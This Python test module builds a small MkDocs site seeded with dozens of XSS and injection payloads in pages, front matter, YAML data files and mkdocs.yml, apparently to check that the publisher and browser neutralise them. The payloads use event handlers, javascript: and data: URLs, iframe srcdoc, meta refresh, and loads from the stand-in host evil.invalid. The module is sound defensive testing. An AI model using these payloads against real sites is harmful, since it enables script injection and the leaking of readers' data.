"""What a stranger, or a paste, may put in a page, a register or mkdocs.yml to run in a reader's browser.

All of it in one small site, built without a check: tests/publish/test_harmless.py asks the judge
of each way, tests/browser/test_hostile.py the browser.
"""

from __future__ import annotations

import shutil
from pathlib import Path

from scripts import steps
from scripts.content.config import read_config
from scripts.content.content import Content
from scripts.core.findings import Finding
from scripts.publish import mkdocs
from scripts.publish.built import BuiltSite
from tests.conftest import DESCRIPTION, GARDEN

RUN = "<svg onload=alert(1)>"
SCRIPT = "<script>alert(1)</script>"
EVIL = "https://evil.invalid/x"
# In a page's text. The first thirteen are those that were published without a word.
BODIES = {
    "a code span in a div": f"<div>`{SCRIPT}`</div>",
    "a code span in a cell": f"<table><tr><td>`{SCRIPT}`</td></tr></table>",
    "a code span in pre": f'<pre markdown="1">`{SCRIPT}`</pre>',
    "b a fence with words": f"~~~ bara text\n{SCRIPT}\n~~~",
    "b a fence with a broken list": f"``` <x> {{bad\n{SCRIPT}\n```",
    "b a fence with a backtick": f"``` a`b\n{SCRIPT}\n```",
    "b an indented fence": f"   ```\n{SCRIPT}\n   ```",
    "c escaped backticks": rf"\`{RUN}\`",
    "d a short comment": f"<!--> {RUN} -->",
    "d a comment with a bang": f"<!-- a --!> {RUN} -->",
    "d a comment with a backtick": f"<!-- ` --> {RUN} `",
    "e a list with a brace": '[x](../index.md){: title="}" onclick="alert(1)" }',
    "e a list without a space": '[x](../index.md){: title="a"onclick="alert(1)" }',
    # Thirty more
    "srcdoc": f'<iframe srcdoc="{SCRIPT}"></iframe>',
    "a frame with an address": '<iframe src="javascript:parent.alert(1)"></iframe>',
    "an animated address": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "svg's own set": '<svg><set onbegin="alert(1)" attributeName="x"/></svg>',
    "svg's use": f'<svg><use href="{EVIL}.svg#x"/></svg>',
    "math": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "math's other address": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "a namespace that breaks": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "a style sheet": f"<style>@import '{EVIL}';</style>",
    "a style": f'<p style="background:url({EVIL})">x</p>',
    "another base": f'<base href="{EVIL}">',
    "a refresh": '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    "a refresh within the site": '<meta http-equiv="refresh" content="0; url=../">',
    "another policy for the referrer": '<meta name="referrer" content="unsafe-url">',
    "a form": '<form action="javascript:alert(1)"><button>x</button></form>',
    "a button's form": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "an object": f'<object data="data:text/html,{SCRIPT}"></object>',
    "an embedded file": f'<embed src="data:text/html,{SCRIPT}">',
    "an address with a tab": '<a href="java&#9;script:alert(1)">x</a>',
    "an address with a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "an address in capitals": "[x](JaVaScRiPt:alert(1))",
    "a referred address": "[x][y]\n\n[y]: javascript:alert(1)",
    "an address in angles": "<javascript:alert(1)>",
    "an address of data": f'<a href="data:text/html,{SCRIPT}">x</a>',
    "a picture": "<img src=x onerror=alert(1)>",
    "a picture in a list": "![x](x.png){: onerror=alert(1) }",
    "a picture elsewhere": f'<img src="{EVIL}.png" alt="x">',
    "a picture by name of host": '<img src="\\\\evil.invalid/x.png" alt="x">',
    "a picture with a choice": f'<img srcset="{EVIL} 1x" alt="x">',
    "a ping": f'<a href="../" ping="{EVIL}">x</a>',
    "folded text": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "a password": "<input type=password>",
    "a film": "<video><source onerror=alert(1) src=x></video>",
    "a sound": "<audio src=x onerror=alert(1)></audio>",
    "a moving text": "<marquee onstart=alert(1)>x</marquee>",
    "a shadow": f"<div><template shadowrootmode=open>{SCRIPT}</template></div>",
    "text for no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    "text that isn't read": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">x</p></textarea>',
    "raw text": f'<xmp><p title="</xmp>{SCRIPT}">x</p></xmp>',
    "a script of data": '<script src="data:text/javascript,alert(1)"></script>',
    "a script elsewhere": '<script src="//evil.invalid/x.js"></script>',
    "a module": '<script type="module">alert(1)</script>',
    "a rule for what to fetch": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    "a sheet elsewhere": f'<link rel="stylesheet" href="{EVIL}.css">',
    "a hint": '<link rel="preconnect" href="https://evil.invalid">',
    "the body's own": "<body onload=alert(1)>",
    "the page's own": "<html onclick=alert(1)>",
    "out of the page": f"</div></article></div></main></div>\n\n{SCRIPT}",
    "a heading's list": "## X {#x onclick=alert(1)}",
    "a box's title": f'!!! note "{RUN}"\n    x',
    "a cell": f"| a |\n|---|\n| {RUN} |",
    "an explained word": f"x\n:   {RUN}",
    "a new tab of its own": "<portal src=x></portal>",
    "a name of one's own": "<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>",
    "a comment": "Text <!-- ring Anna --> mer",
}  # fmt: skip
# In the front matter: the line that takes the place of the field's own.
FRONTS = {
    "f keywords": f"keywords: ['\">{SCRIPT}']",
    "g owner": f'owner: "Red {SCRIPT}"',
    "h a language": f"lang: 'sv\">{SCRIPT}'",
    "h a language's quote": "lang: 'sv\" tabindex=0 autofocus onfocus=alert(1) x=\"'",
    "i a description": f"description: 'x\">{SCRIPT} {DESCRIPTION}'",
    "a title": f'title: "Prov</title>{SCRIPT}"',
    "a title out of the data": f'title: "</script>{SCRIPT}"',
}
# In a register: file, text there, what takes its place.
REGISTERS = {
    "j a source's title": ("sources", "title: ", f"title: {RUN} "),
    "j a publisher": ("sources", "publisher: ", f"publisher: {RUN} "),
    "j a source's note of time": ("sources", "  kind:", f"  as_of_note: '{RUN}'\n  kind:"),
    "k another word": ("glossary", "[härda,", f"['{RUN}',"),
    "a term": ("glossary", "term: kväve", f"term: kväve {RUN}"),
    "a contact": ("contacts", "name: Odlar", f"name: {RUN}Odlar"),
    "a row to tick": ("checklists/plantera", "text: ", f"text: {RUN} "),
    "an answer of the guide": ("guide", "text: Bladmögel", f"text: {RUN} Bladmögel"),
    "a question of the guide": ("guide", "title: Har", f"title: {RUN} Har"),
    "a handout": ("handouts", "title: ", f"title: {RUN} "),
    "l a language": ("card", "name: Svenska", f"name: Svenska {RUN}"),
    "m letters": ("figures", "letters: N", f"letters: N{RUN}"),
}
SETTINGS = {
    "n a name": ("site_name: Kolonilotten", f"site_name: Kolonilotten {RUN}"),
    "n a key": ("key: kolonilotten", f"key: 'x{RUN}'"),
    "n a report": ("  sender:", "  report: 'https://x.example/\"onclick=\"alert(1)'\n  sender:"),
    "n the way out": (
        "exit:\n    show: true\n    address: https://elsewhere.example/",
        "exit: {show: true, address: 'data:text/html,x'}",
    ),
    "a way on": (
        'ask: {page: om/kontakt/, text: "Vem frågar jag?"}',
        "ask: {page: 'javascript:alert(1)', text: x}",
    ),
}
FRONT = {
    "title": "title: Prov",
    "description": f"description: {DESCRIPTION}",
    "last_reviewed_on": "last_reviewed_on: 2026-03-02",
    "review_by": "review_by: 2027-03-01",
    "owner": "owner: Odlarna",
    "keywords": "keywords: []",
}


def page(front: str = "", body: str = "") -> str:
    """Return a page with one field of its own, and a text below the heading."""
    rows = FRONT | ({front.partition(":")[0]: front} if front else {})
    title = rows["title"].removeprefix("title: ").strip('"')
    return "\n".join(["---", *rows.values(), "---", "", f"# {title}", "", body, ""])


def pages() -> dict[str, tuple[str, str]]:
    """Return way → (its page's path in docs/, text)."""
    made = {name: page(body=body) for name, body in BODIES.items()}
    made |= {name: page(front) for name, front in FRONTS.items()}
    return {
        name: (f"odla/vag-{chr(97 + number // 26)}{chr(97 + number % 26)}.md", text)
        for number, (name, text) in enumerate(made.items(), 1)
    }


def garden(folder: Path) -> Path:
    """Copy the small site into ``folder``; return it."""
    return Path(shutil.copytree(GARDEN, folder))


def register(folder: Path, way: str) -> tuple[Path, str, str]:
    """Return the file of a way, what stands there, and what takes its place: known by a number."""
    name, old, new = REGISTERS[way]
    number = list(REGISTERS).index(way) + 2
    return folder / f"docs/_data/{name}.yml", old, new.replace("alert(1)", f"alert({number})")


def change(file: Path, old: str, new: str) -> None:
    """Put ``new`` in the first place of ``old`` in a file."""
    text = file.read_text(encoding="utf-8")
    assert old in text, (file.name, old)
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


def built(folder: Path) -> tuple[BuiltSite, list[Finding]]:
    """Build what ``folder`` holds without a check; return it, and what its pages are judged for."""
    content, config = Content.read(folder / "docs"), read_config(folder, pdf=False)
    assert content.faults == ()
    mkdocs.render(config, folder / "site", content)
    site = BuiltSite(folder / "site", config.site_url)
    for step in steps.BEFORE_SHEETS:
        step(content, site, config)
    found, _ = steps.finish(content, site, config)
    for step in steps.TO_FILES:
        step(content, site, config)
    return site, found


def refused(folder: Path, file: Path, text: str) -> list[Finding]:
    """Put ``text`` in a file of docs/, but for what isn't as its type says: that comes on no page.
    Return the findings of it."""
    before = file.read_text(encoding="utf-8") if file.is_file() else ""
    file.write_text(text, encoding="utf-8")
    faults = Content.read(folder / "docs").faults
    if faults and before:
        file.write_text(before, encoding="utf-8")
    elif faults:
        file.unlink()
    return list(faults)


def hostile(folder: Path) -> tuple[BuiltSite, list[Finding]]:
    """Build a site with every way in it, each in its place; return it, and what is told of them."""
    garden(folder)
    told: list[Finding] = []
    for path, text in pages().values():
        told += refused(folder, folder / "docs" / path, text)
    for way in REGISTERS:
        file, old, new = register(folder, way)
        text = file.read_text(encoding="utf-8")
        assert old in text, (file.name, old)
        told += refused(folder, file, text.replace(old, new, 1))
    for old, new in SETTINGS.values():
        if "key: 'x" not in new:  # it would be the name of a file
            change(folder / "mkdocs.yml", old, new)
    site, found = built(folder)
    return site, [*told, *found]
